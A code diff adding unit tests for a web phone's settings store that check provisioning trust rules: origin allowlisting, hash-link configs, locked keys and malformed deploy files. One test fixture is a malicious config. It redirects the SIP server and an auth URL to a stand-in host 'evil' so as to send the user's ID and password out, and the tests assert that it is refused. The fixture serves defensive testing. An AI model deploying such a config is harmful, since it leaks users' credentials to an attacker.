@@ -17,6 +17,7 @@ const DOC = {
 /** A browser: storage survives "reloads" (new Pinia, same ports) of the page at `href`. */
 function browser() {
   const fake = fakePorts()
+  fake.deploy({ provisioning: { origins: ['http://it.test'], hashConfig: 'any' } })
   return {
     fake,
     async open(href = `http://127.0.0.1/?config=${encodeURIComponent(CONFIG_URL)}`) {
@@ -85,6 +86,61 @@ describe('settings store: provisioning', () => {
     expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
     store = await b.open('http://127.0.0.1/#config=!!')
     expect(store.problems[0]).toMatchObject({ kind: 'provisioning-fetch', url: '#config' })
+  })
+})
+
+describe('settings store: trust (deploy.json)', () => {
+  const ATTACK = { sip: { server: 'wss://evil/ws' }, cti: { accesses: { auth: { method: 'get-internal', url: 'https://evil/c?u={AID}&p={APW}' } } }, locked: ['cti'] }
+
+  it('never fetches a ?config= from an origin deploy.json does not list, saves nothing and says why', async () => {
+    const b = browser()
+    b.fake.respond(CONFIG_URL, DOC)
+    await b.open()
+    const before = cloneJson(b.fake.store.get(SETTINGS_KEY))
+    const fetched: string[] = []
+    const fetch = b.fake.ports.fetch
+    b.fake.ports.fetch = (async (input: string, init?: RequestInit) => { fetched.push(String(input)); return fetch(input, init) }) as typeof fetch
+    b.fake.respond('https://evil.test/c.json', ATTACK)
+    const store = await b.open(`http://127.0.0.1/?config=${encodeURIComponent('https://evil.test/c.json')}`)
+    expect(fetched).toEqual(['http://127.0.0.1/deploy.json'])
+    expect(store.problems).toEqual([{ kind: 'provisioning-refused', url: 'https://evil.test/c.json', refusal: { reason: 'origin', origin: 'https://evil.test' } }])
+    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
+    expect(b.fake.store.get(SETTINGS_KEY)).toEqual(before)
+  })
+
+  it('refuses #config= when deploy.json does not turn it on (the default), and a lower-trust link cannot unlock IT’s keys', async () => {
+    const b = browser()
+    b.fake.respond(CONFIG_URL, DOC)
+    await b.open()
+    const before = cloneJson(b.fake.store.get(SETTINGS_KEY))
+    const link = `http://127.0.0.1/#config=${encodeBase64Url(JSON.stringify({ ...ATTACK, locked: [] }))}`
+    b.fake.deploy({})
+    let store = await b.open(link)
+    expect(store.problems).toEqual([{ kind: 'provisioning-refused', url: '#config', refusal: { reason: 'hash-off' } }])
+    expect(b.fake.store.get(SETTINGS_KEY)).toEqual(before)
+    // "any": the link applies to unlocked keys only; sip.server stays IT's, and so do the locks.
+    b.fake.deploy({ provisioning: { hashConfig: 'any' } })
+    store = await b.open(link)
+    expect(store.settings.sip.server).toBe('wss://pbx.test/ws')
+    expect(store.locked).toEqual(['sip.server', 'popup.size'])
+    expect(store.problems).toEqual([{ kind: 'provisioning-kept-locked', url: '#config', paths: ['sip.server', 'locked'] }])
+  })
+
+  it('a malformed deploy.json means the strictest defaults, and says so', async () => {
+    const b = browser()
+    b.fake.deploy('{"provisioning": ')
+    b.fake.respond(CONFIG_URL, DOC)
+    const store = await b.open()
+    expect(store.problems.map((p) => p.kind)).toEqual(['deploy-invalid', 'provisioning-refused'])
+    expect(store.settings.sip.server).toBe('')
+  })
+
+  it('a lock on an inherited name is refused as a field error, and the phone starts', async () => {
+    const b = browser()
+    b.fake.respond(CONFIG_URL, { ...DOC, locked: ['constructor'] })
+    const store = await b.open()
+    expect(store.problems[0]).toMatchObject({ kind: 'provisioning-invalid', errors: [{ path: 'locked.0', code: 'lock-path' }] })
+    expect(store.loaded).toBe(true)
   })
 })
 
